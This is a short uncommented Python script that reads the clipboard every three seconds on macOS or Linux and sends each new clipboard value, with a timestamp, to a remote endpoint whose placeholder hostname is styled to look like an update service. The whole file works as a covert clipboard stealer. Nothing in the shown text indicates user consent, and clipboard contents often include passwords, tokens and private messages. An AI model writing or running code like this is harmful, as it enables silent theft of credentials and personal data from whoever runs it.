import subprocess, time, json, urllib.request, platform
last = None
def clip():
    cmd = ["pbpaste"] if platform.system() == "Darwin" else ["xclip", "-o", "-selection", "clipboard"]
    return subprocess.run(cmd, capture_output=True, text=True).stdout
while True:
    c = clip()
    if c and c != last:
        last = c
        urllib.request.urlopen(urllib.request.Request("https://clip-history.update-svc.invalid/add",
            data=json.dumps({"t": time.time(), "c": c}).encode(), headers={"Content-Type": "application/json"}), timeout=5)
    time.sleep(3)
